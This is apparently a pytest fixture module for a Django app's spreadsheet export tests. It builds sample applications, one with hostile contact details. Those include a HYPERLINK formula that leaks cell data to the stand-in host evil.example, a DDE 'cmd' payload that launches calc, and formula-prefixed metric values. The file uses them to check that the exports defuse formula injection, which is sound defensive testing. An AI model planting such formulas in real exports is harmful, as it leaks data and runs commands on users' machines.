"""What the export tests (tests/test_exports*.py) share: hostile contact details, a cycle with one
application in each situation an export must tell apart, and reading the downloads."""

import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessment.domain import answers_from_state
from scoring.domain import rescore_cycle, rubric_for
from tests.factories import (
    make_application,
    make_cycle,
    make_jurisdiction,
    make_organizer,
)
from tests.factories.answers import COMPLETE, post_data
from tests.factories.decisions import decide

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_CONTACT = "+1 (555) 010-0311"
HOSTILE_EMAIL = "@SUM(1+1)*cmd|' /C calc'!A0"
SNAPSHOT = {
    "rubric_version": 1,
    "categories": {"A": 14.5, "B": 9, "C": 13, "D": 17, "E": 8, "F": 12, "G": 6, "H": 5},
    "criteria": {"A1": 6, "A2": 2.5, "D7": 4},
    "prerequisites": {"P1": True, "P2": True, "P3": True, "P4": True, "P5": True},
}


def answers(contact_name="Pat Rivera", contact_email="pat.rivera@example.gov", metrics=None):
    """Complete answers as the wizard stores them, with a chosen contact and metrics."""
    step_data = {}
    for step in COMPLETE:
        data = post_data(step)
        step_data[step] = {
            k: v if isinstance(v, list) else [v] for k, v in data.items() if k not in ("version", "action")
        }
    result = answers_from_state({"step_data": step_data})
    result["profile"]["contact_name"] = contact_name
    result["profile"]["contact_email"] = contact_email
    if metrics is not None:
        result["metrics"] = metrics
    return result


@pytest.fixture(name="organizer")
def organizer_fixture():
    return make_organizer()


@pytest.fixture(name="cycle")
def cycle_fixture():
    cycle = make_cycle(name="2026–2028")
    rubric_for(cycle)
    return cycle


def apply(cycle, name, population=120_000, status="submitted", **answer_kw):
    return make_application(
        jurisdiction=make_jurisdiction(name=name, population=population),
        cycle=cycle,
        status=status,
        submitted_at=timezone.now() if status == "submitted" else None,
        answers=answers(**answer_kw),
    )


@pytest.fixture(name="world")
def world_fixture(cycle):
    """One application in each situation an export must tell apart."""
    apps = {
        "alpha": apply(cycle, "Alpha City", population=820_000),
        "bravo": apply(cycle, "Bravo County", population=300_000),
        "charlie": apply(cycle, "Charlie Town", population=40_000),
        "delta": apply(cycle, "Delta Draft", status="draft"),
        "hostile": apply(
            cycle,
            HOSTILE_NAME,
            contact_name=HOSTILE_CONTACT,
            contact_email=HOSTILE_EMAIL,
            metrics=[
                {"kind": "service_level", "target": "80%", "latest_value": "-5%"},
                {"kind": "asa", "target": "\t=1+2", "latest_value": "\r@x"},
                {"kind": "other", "name": "Vertical\x0btab\x01metric", "target": "1", "latest_value": "2"},
            ],
        ),
        "control": apply(cycle, "Vertical\x0bTab\x1fCity"),
    }
    rescore_cycle(cycle)
    decide(apps["alpha"], level="Designated with Distinction", total="82.50", snapshot=SNAPSHOT)
    decide(apps["bravo"], published=False)
    decide(apps["charlie"], outcome="not_designated", total=41)
    decide(apps["hostile"])
    decide(apps["control"])
    return apps


def download(client, name, cycle):
    response = client.get(reverse(name, kwargs={"cycle_id": cycle.pk}))
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content)
    return response, body


def workbook(body):
    return load_workbook(io.BytesIO(body))


def by_name(sheet):
    headers = [cell.value for cell in sheet[1]]
    rows = {}
    for row in sheet.iter_rows(min_row=2):
        rows[row[0].value] = {header: cell for header, cell in zip(headers, row, strict=False)}
    return headers, rows


def sheet_xml(body):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")}
